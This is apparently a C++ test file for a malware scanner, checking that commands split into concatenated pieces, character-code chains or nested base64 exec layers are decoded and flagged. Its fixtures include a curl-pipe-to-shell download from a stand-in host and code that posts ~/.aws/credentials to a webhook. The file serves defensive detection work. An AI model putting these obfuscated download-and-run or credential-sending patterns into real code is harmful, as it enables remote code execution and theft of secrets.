// Constant folding from the attacker's side: a command or payload split into
// many concatenated pieces is folded and reviewed like the plain string, and
// a value built past the folding bounds is reported as not verified instead
// of passing quietly. Also the precision side of the endpoint rule: a single
// webhook or raw-IP call is one signal, not two.

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <string>

#include "code_test_support.hpp"

namespace hazmat::testing {
namespace {

using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::SizeIs;

// 'c'+'u'+'r'+'l'+... : one quoted piece per character.
std::string pieces(std::string_view text, char quote = '\'') {
    std::string out;
    for (const char c : text) {
        if (!out.empty())
            out += '+';
        out += quote;
        out += c;
        out += quote;
    }
    return out;
}

// chr(105)+chr(109)+... (Python) or String.fromCharCode(105)+... (JS).
std::string char_codes(std::string_view text, std::string_view function) {
    std::string out;
    for (const char c : text) {
        if (!out.empty())
            out += '+';
        out += std::string(function) + "(" + std::to_string(static_cast<int>(c)) + ")";
    }
    return out;
}

// 'a'+('b'+('c'+...)): each piece nests one level deeper.
std::string nested_pieces(std::string_view text) {
    std::string out;
    for (size_t i = 0; i < text.size(); ++i) {
        if (i > 0)
            out += "+(";
        out += '\'';
        out += text[i];
        out += '\'';
    }
    out += std::string(text.size() - 1, ')');
    return out;
}

// A command long enough to need more than 61 pieces; the host is inert.
const std::string kCommand =
    "curl -s http://stage2.invalid/payload-abcdefghijklmnopqrstuvwxyz0123456789 | sh";

std::string padded_command(size_t length) {
    std::string command = "curl -s http://stage2.invalid/";
    while (command.size() + 5 < length)
        command += 'x';
    return command + " | sh";
}

TEST(CodeFolding, PythonSixtyOnePieceCommandIsFolded) {
    ASSERT_GT(kCommand.size(), 61u);
    const auto scan =
        scan_source("pkg/util.py", "import os\nos.system(" + pieces(kCommand) + ")\n");
    const auto found = scan.of("HZ-CODE-031");
    ASSERT_THAT(found, SizeIs(1));
    EXPECT_EQ(found[0].severity, Severity::critical);
    EXPECT_EQ(found[0].location.line, 2u);
    EXPECT_THAT(scan.of("HZ-SCAN-001"), IsEmpty());
}

TEST(CodeFolding, PythonTwoHundredPieceCommandIsFolded) {
    const auto command = padded_command(200);
    ASSERT_EQ(command.size(), 200u);
    // Through a module constant, as obfuscators emit it.
    const auto scan =
        scan_source("pkg/util.py", "import subprocess\nCMD = " + pieces(command) +
                                       "\ndef go():\n    subprocess.run(CMD, shell=True)\n");
    const auto found = scan.of("HZ-CODE-031");
    ASSERT_THAT(found, SizeIs(1));
    EXPECT_GE(found[0].severity, Severity::high);
    EXPECT_EQ(found[0].location.line, 4u);
    EXPECT_THAT(scan.of("HZ-SCAN-001"), IsEmpty());
}

TEST(CodeFolding, PythonChrChainPassedToExecIsDecodedAndRescanned) {
    const std::string payload = "import os\nos.system('" + kCommand + "')\n";
    ASSERT_GT(payload.size(), 50u);
    const auto scan = scan_source("pkg/__init__.py", "exec(" + char_codes(payload, "chr") + ")\n");
    // The folded code string is reviewed: the pipe to a shell inside it is
    // found, not just "exec of a value computed at run time".
    const auto found = scan.of("HZ-CODE-031");
    ASSERT_THAT(found, SizeIs(1));
    EXPECT_GE(found[0].severity, Severity::high);
    EXPECT_THAT(found[0].location.to_display(), HasSubstr("code string passed to exec"));
    EXPECT_THAT(scan.of("HZ-SCAN-001"), IsEmpty());
}

TEST(CodeFolding, PythonNestingPastTheBoundIsReportedUnverified) {
    const auto scan =
        scan_source("pkg/util.py", "import os\nos.system(" + nested_pieces(kCommand) + ")\n");
    const auto found = scan.of("HZ-SCAN-001");
    ASSERT_THAT(found, SizeIs(1));
    EXPECT_EQ(found[0].severity, Severity::high);
    EXPECT_EQ(found[0].location.line, 2u);
    EXPECT_THAT(found[0].message, HasSubstr("os.system"));
}

TEST(CodeFolding, JavaScriptSixtyOnePieceCommandIsFolded) {
    const auto scan = scan_source("lib/index.js",
                                  "require('child_process').execSync(" + pieces(kCommand) + ");\n");
    const auto found = scan.of("HZ-CODE-031");
    ASSERT_THAT(found, SizeIs(1));
    EXPECT_GE(found[0].severity, Severity::high);
    EXPECT_EQ(found[0].location.line, 1u);
    EXPECT_THAT(scan.of("HZ-SCAN-001"), IsEmpty());
}

TEST(CodeFolding, JavaScriptTwoHundredPieceCommandIsFolded) {
    const auto scan =
        scan_source("lib/index.js", "const cp = require('child_process');\nconst c = " +
                                        pieces(padded_command(200), '"') + ";\ncp.execSync(c);\n");
    const auto found = scan.of("HZ-CODE-031");
    ASSERT_THAT(found, SizeIs(1));
    EXPECT_GE(found[0].severity, Severity::high);
    EXPECT_EQ(found[0].location.line, 3u);
}

TEST(CodeFolding, JavaScriptCharCodeChainPassedToEvalIsRescanned) {
    const std::string payload = "require('child_process').execSync('" + kCommand + "')";
    const auto scan =
        scan_source("lib/index.js", "eval(" + char_codes(payload, "String.fromCharCode") + ");\n");
    const auto found = scan.of("HZ-CODE-031");
    ASSERT_THAT(found, SizeIs(1));
    EXPECT_GE(found[0].severity, Severity::high);
    EXPECT_THAT(scan.of("HZ-SCAN-001"), IsEmpty());
}

TEST(CodeFolding, JavaScriptNestingPastTheBoundIsReportedUnverified) {
    const auto scan = scan_source(
        "lib/index.js", "require('child_process').execSync(" + nested_pieces(kCommand) + ");\n");
    const auto found = scan.of("HZ-SCAN-001");
    ASSERT_THAT(found, SizeIs(1));
    EXPECT_EQ(found[0].severity, Severity::high);
    EXPECT_EQ(found[0].location.line, 1u);
}

// One signal is not two: the call that uses an endpoint does not corroborate
// the endpoint.
TEST(CodeFolding, SlackNotifierStaysBelowHigh) {
    const auto scan = scan_source("train/notify.py", R"(
import os
import requests

def report(msg):
    url = os.environ.get("SLACK_WEBHOOK", "https://hooks.slack.invalid/services/T0/B0/x")
    requests.post(url, json={"text": msg}, timeout=5)
)");
    const auto found = scan.of("HZ-CODE-050");
    ASSERT_THAT(found, SizeIs(1));
    EXPECT_EQ(found[0].severity, Severity::medium);
    EXPECT_EQ(found[0].location.line, 6u);
    EXPECT_EQ(scan.max_severity(), Severity::medium);
}

TEST(CodeFolding, GetToPublicIpStaysBelowHigh) {
    const auto scan = scan_source("ops/health.py", R"(
import requests

def healthy():
    return requests.get("http://203.0.113.9/health", timeout=2).ok
)");
    const auto found = scan.of("HZ-CODE-050");
    ASSERT_THAT(found, SizeIs(1));
    EXPECT_EQ(found[0].severity, Severity::medium);
    EXPECT_EQ(scan.max_severity(), Severity::medium);
}

TEST(CodeFolding, JavaScriptSlackNotifierStaysBelowHigh) {
    const auto scan = scan_source("lib/notify.js", R"(
async function report(text) {
  await fetch("https://hooks.slack.invalid/services/T0/B0/x", {
    method: "POST",
    body: JSON.stringify({ text }),
  });
}
module.exports = { report };
)");
    const auto found = scan.of("HZ-CODE-050");
    ASSERT_THAT(found, SizeIs(1));
    EXPECT_EQ(found[0].severity, Severity::medium);
    EXPECT_EQ(scan.max_severity(), Severity::medium);
}

// The same endpoint with something worth stealing is still high.
TEST(CodeFolding, CredentialsToSlackWebhookIsHigh) {
    const auto scan = scan_source("pkg/sync.py", R"(
import os
import requests

def sync():
    secret = open(os.path.expanduser("~/.aws/credentials")).read()
    requests.post("https://hooks.slack.invalid/services/T0/B0/x", data=secret)
)");
    const auto found = scan.of("HZ-CODE-050");
    ASSERT_THAT(found, SizeIs(1));
    EXPECT_GE(found[0].severity, Severity::high);
    EXPECT_EQ(found[0].location.line, 7u);
}

// An onion of payloads is one long line on disk, not one per layer.
TEST(CodeFolding, LongLineIsReportedOnceForADeepOnion) {
    std::string layer = "print(1 + 1)";
    std::string source;
    // 20 layers of exec(base64 of the previous layer); most of them are
    // longer than a long line.
    for (int i = 0; i < 20; ++i) {
        static constexpr char kAlphabet[] =
            "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        std::string encoded;
        size_t j = 0;
        for (; j + 2 < layer.size(); j += 3) {
            const uint32_t v = (static_cast<uint8_t>(layer[j]) << 16) |
                               (static_cast<uint8_t>(layer[j + 1]) << 8) |
                               static_cast<uint8_t>(layer[j + 2]);
            for (int k = 18; k >= 0; k -= 6)
                encoded += kAlphabet[(v >> k) & 63];
        }
        if (j < layer.size()) {
            uint32_t v = static_cast<uint8_t>(layer[j]) << 16;
            if (j + 1 < layer.size())
                v |= static_cast<uint8_t>(layer[j + 1]) << 8;
            encoded += kAlphabet[(v >> 18) & 63];
            encoded += kAlphabet[(v >> 12) & 63];
            encoded += j + 1 < layer.size() ? kAlphabet[(v >> 6) & 63] : '=';
            encoded += '=';
        }
        layer = "import base64;exec(base64.b64decode('" + encoded + "'))";
    }
    source = layer + "\n";
    ASSERT_GT(source.size(), 4096u);
    const auto scan = scan_source("pkg/loader.py", source);
    const auto long_lines = scan.of("HZ-CODE-082");
    ASSERT_THAT(long_lines, SizeIs(1));
    EXPECT_EQ(long_lines[0].severity, Severity::low);
    EXPECT_EQ(long_lines[0].location.line, 1u);
    EXPECT_THAT(scan.of("HZ-CODE-080"), SizeIs(1));
}

}  // namespace
}  // namespace hazmat::testing
